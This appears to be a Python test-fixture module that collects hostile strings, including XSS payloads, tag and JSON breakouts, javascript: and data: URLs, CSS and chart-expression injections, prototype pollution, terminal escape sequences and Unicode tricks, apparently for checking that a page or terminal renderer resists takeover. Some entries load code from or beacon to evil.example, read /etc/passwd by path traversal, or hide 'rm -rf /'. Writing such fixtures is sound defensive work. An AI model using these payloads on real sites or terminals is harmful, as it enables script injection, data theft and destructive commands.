"""Hostile texts: what a model, a task or a settings file may say to take over a page or a terminal.

Whatever runs sets `window.pwned`. Names say the kind. `LONG` are those that are too long to be names of anything.
"""

P = "window.pwned=1"
_ESC, _BEL, _CSI = "\x1b", "\x07", "\x9b"

# Elements that run scripts: in any case, with odd white space, unclosed, closed twice, in other elements.
_SCRIPTS = {
    "script": f"<script>{P}</script>",
    "script, mixed case": f"<ScRiPt>{P}</sCrIpT>",
    "script, white space": f"<script\n\t\x0c type = 'text/javascript' >{P}</script\n>",
    "script, slash": f"<script/x>{P}</script/x>",
    "script, unclosed": f"<script>{P}//",
    "script, split": f"<scr<script></script>ipt>{P}</scr<script></script>ipt>",
    "script, module": f"<script type=module>import('data:text/javascript,{P}')</script>",
    "script, remote": "<script src=//evil.example/x.js></script>",
    "script in text area": f"</textarea><script>{P}</script>",
    "script in title": f"</title><script>{P}</script>",
    "script behind noscript": f'<noscript><p title="</noscript><script>{P}</script>">',
    "script by entities": f"&lt;script&gt;{P}&lt;/script&gt;&#60;script&#62;{P}&#x3c;/script&#x3e;",
}

# Handlers of events, in elements that a parser makes at once.
_HANDLERS = {
    "handler, img": f'<img src=x onerror="{P}">',
    "handler, img without quotes": f"<img/src=x/onerror={P}>",
    "handler, body": f"<body onload={P} onpageshow={P} onhashchange={P}>",
    "handler, focus": f"<input autofocus onfocus={P}>",
    "handler, toggle": f"<details open ontoggle={P}>",
    "handler, marquee": f"<marquee onstart={P}>x</marquee>",
    "handler, media": f"<video><source onerror={P}></video><audio src=x onerror={P}>",
    "handler, animation": f"<style>@keyframes k{{}}</style><b style=animation:k onanimationstart={P}>",
    "handler, out of double quotes": f'" onmouseover="{P}" autofocus onfocus="{P}" x="',
    "handler, out of single quotes": f"' onclick='{P}' style='position:fixed;inset:0' x='",
    "handler, backquotes": f"``onmouseover={P}",
    "handler, slow popover": f"<button popovertarget=x>x</button><i popover id=x onbeforetoggle={P}>",
}

# Elements that are not of HTML, and what is HTML in them again.
_FOREIGN = {
    "svg, load": f"<svg onload={P}>",
    "svg, script": f"<svg><script>{P}</script></svg>",
    "svg, foreign object": f"<svg><foreignObject><iframe onload={P}></iframe></foreignObject></svg>",
    "svg, animate": f"<svg><a><animate attributeName=href values=javascript:{P} /><text>x</text></a></svg>",
    "svg, use": "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x\"/></svg>",
    "math": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={P}&gt;'>",
    "math, action": f"<math><maction actiontype=statusline xlink:href=javascript:{P}>x</maction></math>",
}

# Addresses that are scripts or documents.
_ADDRESSES = {
    "address, script": f"javascript:{P}",
    "address, link": f"<a href='java\tscript:{P}'>x</a>",
    "address, entities": f"<a href=&#106;avascript&colon;{P}>x</a>",
    "address, data": f"data:text/html,<script>{P}</script>",
    "address, data link": f"<a href='data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+' onclick={P}>x</a>",
    "address, vbscript": f"vbscript:execute('{P}')",
    "address, fragment": f"#view=rollouts&run=0&text=<img src=x onerror={P}>",
    "address, path": "../../../../etc/passwd?x=%00%2e%2e%2f",
}

# Ends of what the page embeds: scripts, comments, JSON, template literals.
_BREAKOUTS = {
    "ends the data": f"</script><script>{P}</script>",
    "ends the data, white space": f"</script \n><img src=x onerror={P}>",
    "comment": f"<!--<script>{P}",
    "comment, ended": f"--><script>{P}</script><!-- --!><img src=x onerror={P}>",
    "character data": f"]]><script>{P}</script><![CDATA[",
    "ends a JSON text": f'"}}]}};{P};//',
    "ends a JSON text, backslash": f'\\";{P};//\\u0022;{P};//',
    "template literal": f"`${{{P}}}` ${{{P}}} #{{{P}}} {{{{{P}}}}} <%= {P} %>",
    "constructor in templates": f"{{{{constructor.constructor('{P}')()}}}}",
    "line separators": f"a\u2028{P}\u2029{P}//",
    "noscript": "</noscript><p>outside</p>",
}

# Elements that change the page, its address or where it sends to.
_ELEMENTS = {
    "frame": f'<iframe srcdoc="<script>parent.{P}</script>"></iframe>',
    "frame, script": f"<iframe src=javascript:parent.{P}></iframe>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "policy": '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "base": "<base href=https://evil.example/ target=_blank>",
    "object": f"<object data=data:text/html,<script>{P}</script> onerror={P}></object>",
    "embed": f"<embed src=javascript:{P}>",
    "form": f"<form action=javascript:{P}><button>x</button><input name=attributes></form>",
    "form, button": f"<button formaction=javascript:{P}>x</button><isindex action=javascript:{P} type=image>",
    "prefetch": "<link rel=prefetch href=https://evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "beacon": "<img src=https://evil.example/?c ping=https://evil.example/ loading=eager srcset='x 1x'>",
    "portal": "<dialog open><template shadowrootmode=open><slot></slot></template><dialog open>",
}

# Styles.
_STYLES = {
    "style element": "<style>*{display:none!important;background:url(https://evil.example/)}</style>",
    "style, ended": f"</style><script>{P}</script>",
    "style, import": "@import url(https://evil.example/x.css); body{color:red}",
    "style, expression": f"xss:expression({P});behavior:url(x.htc);-moz-binding:url(x.xml)",
    "style, value": "red;} * {background:url('https://evil.example/')} x{",
    "style, variable": "var(--x,url(https://evil.example/));position:fixed;inset:0;z-index:9999",
}

# Names that objects have already, and names that a document gives to its elements.
_NAMES = {
    "prototype": "__proto__",
    "constructor": "constructor",
    "inherited": "toString",
    "has own": "hasOwnProperty",
    "value of": "valueOf",
    "then": "then",
    "JSON by itself": "toJSON",
    "length": "length",
    "pollution": "__proto__.pwned",
    "pollution as JSON": '{"__proto__":{"pwned":1},"constructor":{"prototype":{"pwned":1}}}',
    "clobbering": "<a id=Strop name=embedded><a id=Strop name=source><img name=getElementById>",
    "clobbering, form": "<form id=document><input id=body name=cookie></form><i id=strop-data>null</i>",
    "index": "0",
    "not a number": "NaN",
    "empty": "",
    "blank": "  ",
}

# What the chart library would take for an expression, a signal, a field or an address.
_CHARTS = {
    "signal": f'{{"signal":"{P}"}}',
    "expression": "datum.value; warn('x'), event.view.eval('" + P + "')",
    "field, brackets": "a[0]['b'].c\\.d",
    "field, quotes": 'it\'s "quoted" [x] \\[y\\] a.b.c \\',
    "field, aggregate": "sum(x):Q",
    "address in data": '{"url":"https://evil.example/data.json","format":{"type":"csv"}}',
    "tooltip": '{"title":"<img src=x onerror=' + P + '>","image":"https://evil.example/x.png","href":"x"}',
    "pattern of replace": "$& $1 $` $' {name} %s %d {0}",
}

# Terminals: colours, titles, links, the clipboard, the cursor, and the same with one byte of C1.
_TERMINALS = {
    "terminal, colour and clear": f"{_ESC}[31mred{_ESC}[2J{_ESC}[H{_ESC}c",
    "terminal, title": f"{_ESC}]0;pwned{_BEL}{_ESC}]2;pwned{_ESC}\\",
    "terminal, clipboard": f"{_ESC}]52;c;cm0gLXJmIC8={_BEL}",
    "terminal, link": f"{_ESC}]8;;https://evil.example/{_ESC}\\click{_ESC}]8;;{_ESC}\\",
    "terminal, device": f'{_ESC}P$q"p{_ESC}\\{_ESC}[6n{_ESC}[21t{_ESC}_x{_ESC}\\',
    "terminal, C1": f"{_CSI}2J\x9d0;pwned\x9c\x90x\x9c\x85",
    "terminal, overwritten": "rm -rf /\rsafe     \x08\x08\x08\x7f\x0b\x0c\x0e\x0f",
    "markup of rich": "[red]x[/red] [link=https://evil.example]x[/link] [/] [bold :smile: [@click=app.bell]x[/]",
}

# Characters that cannot be seen, that reorder what is read, that break encodings, or that pile up.
_CHARACTERS = {
    "NUL": "a\x00b\x00<script>",
    "BOM": "\ufeff<script>\ufeff",
    "lone surrogates": "\ud800 \udc00 x\udfff",
    "surrogates as bytes": "\udcff\udc80",
    "not characters": "\ufffe\uffff\U0010ffff\ufdd0",
    "direction overrides": "\u202egnp.exe\u202c \u2066\u2067\u2069 \u200f\u200e\u061c",
    "no width": "pass\u200bed\u200c\u200d\u2060\u00ad\ufeff\u180e",
    "tags": "x\U000e0041\U000e0042\U000e007f",
    "combining": "Z" + "\u0301\u0489\u035c" * 60,
    "full width": "\uff1cscript\uff1e\uff1c/script\uff1e \u2039script\u203a",
    "case that grows": "\u0130\u0131\ufb03\u1e9e\u01c5",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1e9\U0001f1ea",
    "line ends": "a\r\nb\rc\x0bd\x0ce\x1cf\x85g\n\n\n",
    "UTF-7": "+ADw-script+AD4-" + P + "+ADw-/script+AD4-",
}

LONG = {
    "one line of a megabyte": f"<b onclick={P}>" * 40_000,
    "many lines": "<i>\n" * 50_000,
    "nested": "<div>" * 20_000 + f"<script>{P}</script>",
    "nested brackets": "[" * 50_000 + '{"a":' * 20_000,
    "many marks": "\u202e\x00\x1b" * 1_000,
}
"""Too long for names."""

SHORT = {
    **_SCRIPTS, **_HANDLERS, **_FOREIGN, **_ADDRESSES, **_BREAKOUTS, **_ELEMENTS, **_STYLES, **_NAMES, **_CHARTS,
    **_TERMINALS, **_CHARACTERS,
}  # fmt: skip

CORPUS = {**SHORT, **LONG}
"""{kind: text}, all of them different."""
